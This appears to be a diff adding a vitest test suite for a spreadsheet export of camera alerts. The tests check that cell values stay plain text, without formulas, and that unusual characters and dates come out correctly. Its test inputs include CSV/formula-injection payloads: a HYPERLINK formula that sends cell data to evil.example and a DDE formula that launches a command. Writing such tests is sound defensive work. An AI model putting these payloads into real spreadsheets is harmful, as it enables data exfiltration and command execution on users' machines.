@@ -1,0 +1,166 @@
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createAlertRule, createAlerts, createCamera, createFacility, createUser, createWorkspace } from "../support/factories.js";
+import { type Gateway, startGateway } from "../support/harness.js";
+import { type ExportedRow, exportedRows, fileOf } from "./exports.js";
+import { exceljsRows, partOf, rowsOf, workbookOf } from "./workbook.js";
+
+const reader = { user: "test|reader" };
+let gateway: Gateway;
+let workspaceId: string;
+beforeAll(async () => {
+  gateway = await startGateway({ seed: "none" });
+  workspaceId = await createWorkspace(gateway.prisma, {});
+  await createUser(gateway.prisma, { workspaceId, authId: reader.user, roles: ["alerts:read"] });
+});
+afterAll(() => gateway.close());
+
+/** The export of a facility, from the first year to the last. */
+async function exported(facilityId: string): Promise<Buffer> {
+  const query = `filter: { start: "0001-01-01T00:00:00Z", end: "9999-12-31T23:59:59.999Z", facilityId: "${facilityId}" }`;
+  const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(`{ exportAlerts(${query}) { url } }`, { as: reader });
+  return fileOf(await gateway.fetch(exportAlerts.url.slice(new URL(exportAlerts.url).origin.length)));
+}
+
+/** Rows by the ids of their alerts. */
+const byId = (rows: ExportedRow[]) => new Map(rows.map((row) => [row["Alert id"] as string, row]));
+
+/** What both libraries make of a file. */
+async function readByBoth(file: Buffer): Promise<Map<string, ExportedRow>[]> {
+  const [sheet] = (await workbookOf(file)).worksheets;
+  return [byId(await exportedRows(file)), byId(await exportedRows(exceljsRows(sheet)))];
+}
+
+/** Texts, and how they are shown where that is not as they are. */
+const texts: [what: string, text: string, shown?: string][] = [
+  ["a sum", "=1+1"],
+  ["a plus sign", "+1+1"],
+  ["a minus sign", "-1+1"],
+  ["an at sign", "@SUM(A1:A9)"],
+  ["a link as a formula", '=HYPERLINK("https://evil.example/?x="&A1,"Open picture")'],
+  ["a command as a formula", "=cmd|' /C calc'!A0"],
+  ["a formula behind a tab", "\t=1+1"],
+  ["a formula behind a line break", "\n=1+1"],
+  ["a formula behind an apostrophe", "'=1+1"],
+  ["a number", "007"],
+  ["a number with an exponent", "1e5"],
+  ["a truth", "TRUE"],
+  ["a date", "2026-11-20"],
+  ["an error", "#REF!"],
+  ["a link", "https://pictures.example/1.jpg"],
+  ["markup", `<b title="x">'bold'</b> & &#65; ]]> <![CDATA[x]]>`],
+  ["emoji", "🎥👷🏽‍♀️ 1️⃣"],
+  ["letters from right to left, with their marks", "\u202eشاحنة\u202c \u200fעברית"],
+  ["letters with accents put together and apart", "é e\u0301 ö"],
+  ["spaces around", "  two before, two after  "],
+  ["nothing but a space", " "],
+  ["line breaks and a tab", "one\ntwo\n\nthree\tfour"],
+  ["line breaks of other systems", "one\r\ntwo\rthree\n\rfour", "one\ntwo\nthree\n\nfour"],
+  ["control characters", "a\u0001b\u0008c\u000bd\u000ce\u001bf\u001fg", "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg"],
+  ["the last control character", "a\u007fb", "a\ufffdb"],
+  ["characters that are none", "a\ufffeb\uffffc", "a\ufffdb\ufffdc"],
+  ["a byte order mark, a line separator and a next line", "a\ufeffb\u2028c\u0085d"],
+  ["what looks like the number of a character", "_x0041_"],
+  ["what looks like such a number itself", "_x005F_x0041_"],
+  ["several of them, sharing their edges", "_x0041_x000d_X0042_x0x0043_"],
+  ["as many characters as a cell takes", "x".repeat(32_767)],
+  ["more characters than a cell takes", "x".repeat(40_000), "x".repeat(32_767)],
+];
+
+describe("a text is that text to both libraries:", () => {
+  const facilityId = randomUUID();
+  let ids: string[];
+  let libraries: Map<string, ExportedRow>[];
+  let xml: string;
+  beforeAll(async () => {
+    await createFacility(gateway.prisma, { id: facilityId, workspaceId });
+    const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+    const alerts = texts.map(([, text]) => ({ workspaceId, facilityId, cameraId, name: text }));
+    ids = await createAlerts(gateway.prisma, alerts);
+    const file = await exported(facilityId);
+    libraries = await readByBoth(file);
+    xml = await partOf(file, "xl/worksheets/sheet1.xml");
+  });
+
+  it.each(texts.map(([what, text, shown = text], index) => [what, shown, index] as const))("%s", (_what, shown, index) => {
+    for (const rows of libraries) expect(rows.get(ids[index] as string)?.Type).toBe(shown);
+  });
+
+  it("and nothing is a formula", () => {
+    expect(xml).not.toMatch(/<f[ >]/);
+    const types = [...xml.matchAll(/<c r="E\d+"[^>]* t="(str|inlineStr)"/g)];
+    expect(types).toHaveLength(texts.length + 1);
+  });
+});
+
+it("names of facilities, cameras, rules, areas and severities are texts too", async () => {
+  const odd = (name: string) => `=${name}("\u0001_x0041_")\r\n`;
+  const shown = (name: string) => `=${name}("\ufffd_x0041_")\n`;
+  const facilityId = await createFacility(gateway.prisma, { workspaceId, name: odd("facility") });
+  const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId, name: odd("camera") });
+  const areas = ["one", "two"].map((name) => ({ id: randomUUID(), type: "AREA", name: odd(name), points: [] }));
+  const group = { id: randomUUID(), type: "GROUP", operator: "AND", children: areas };
+  const alertRuleId = await createAlertRule(gateway.prisma, { cameraId, name: odd("rule"), group });
+  const areaIds = areas.map(({ id }) => id);
+  await createAlerts(gateway.prisma, [{ workspaceId, facilityId, cameraId, alertRuleId, areaIds, severity: odd("severity") }]);
+  const file = await exported(facilityId);
+  for (const rows of await readByBoth(file)) {
+    const [row] = rows.values();
+    const found = (["Facility", "Camera", "Severity", "Rule", "Areas"] as const).map((name) => row?.[name]);
+    expect(found).toEqual([...["facility", "camera", "severity", "rule"].map(shown), `${shown("one")}, ${shown("two")}`]);
+  }
+  expect(await partOf(file, "xl/worksheets/sheet1.xml")).not.toMatch(/<f[ >]/);
+});
+
+describe("moments that calendars of spreadsheets do not have are texts, three hours east of UTC:", () => {
+  const facilityId = randomUUID();
+  const moments: [createdAt: string, utc: Date | string, local: Date | string][] = [
+    ["0001-01-01T00:00:00.000Z", "0001-01-01T00:00:00.000", "0001-01-01[T ]03:00:00"],
+    ["1850-06-01T22:30:00.250Z", "1850-06-01T22:30:00.250", "1850-06-02[T ]01:30:00"],
+    ["1900-02-28T20:59:59.999Z", "1900-02-28T20:59:59.999", "1900-02-28[T ]23:59:59"],
+    ["1900-02-28T21:00:00.000Z", "1900-02-28T21:00:00.000", new Date("1900-03-01T00:00:00.000Z")],
+    ["1900-03-01T00:00:00.000Z", new Date("1900-03-01T00:00:00.000Z"), new Date("1900-03-01T03:00:00.000Z")],
+    ["1969-12-31T23:59:59.999Z", new Date("1969-12-31T23:59:59.999Z"), new Date("1970-01-01T02:59:59.999Z")],
+    ["9999-12-31T20:59:59.998Z", new Date("9999-12-31T20:59:59.998Z"), new Date("9999-12-31T23:59:59.998Z")],
+  ];
+  let ids: string[];
+  let rows: Map<string, ExportedRow>;
+  beforeAll(async () => {
+    await createFacility(gateway.prisma, { id: facilityId, workspaceId, timeZoneId: "Etc/GMT-3" });
+    const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+    const alerts = moments.map(([createdAt]) => ({ workspaceId, facilityId, cameraId, createdAt: new Date(createdAt) }));
+    ids = await createAlerts(gateway.prisma, alerts);
+    const [sheet] = (await workbookOf(await exported(facilityId))).worksheets;
+    rows = byId(await exportedRows(exceljsRows(sheet)));
+  });
+
+  it.each(moments.map((moment, index) => [...moment, index] as const))("%s", (_createdAt, utc, local, index) => {
+    const row = rows.get(ids[index] as string);
+    // A local time says of no zone that it is its own.
+    const wanted = local instanceof Date ? local : expect.stringMatching(new RegExp(`^${local}(\\.\\d{3})?$`));
+    expect([row?.["UTC time"], row?.["Local time"]]).toEqual([utc, wanted]);
+  });
+});
+
+describe("a moment whose local year no calendar of spreadsheets has leaves the file whole:", () => {
+  it.each([
+    ["the last one, three hours east of UTC", "Etc/GMT-3", "9999-12-31T23:59:59.998Z"],
+    ["the first one, three hours west of UTC", "Etc/GMT+3", "0001-01-01T00:00:00.000Z"],
+  ])("%s", async (_what, timeZoneId, createdAt) => {
+    const facilityId = await createFacility(gateway.prisma, { workspaceId, timeZoneId });
+    const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+    const place = { workspaceId, facilityId, cameraId };
+    const ids = await createAlerts(gateway.prisma, [{ ...place, createdAt: new Date(createdAt) }, place]);
+    const file = await exported(facilityId);
+    expect([...byId(await exportedRows(file)).keys()].sort()).toEqual(ids.sort());
+    expect(await partOf(file, "xl/worksheets/sheet1.xml")).not.toContain("NaN");
+  });
+});
+
+it("a text that looks like a character of XML is that text", async () => {
+  // exceljs would decode it twice.
+  const facilityId = await createFacility(gateway.prisma, { workspaceId, name: "&amp;&lt;b&gt;" });
+  const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
+  await createAlerts(gateway.prisma, [{ workspaceId, facilityId, cameraId }]);
+  expect((await rowsOf(await exported(facilityId)))[1]?.[2]).toBe("&amp;&lt;b&gt;");
+});
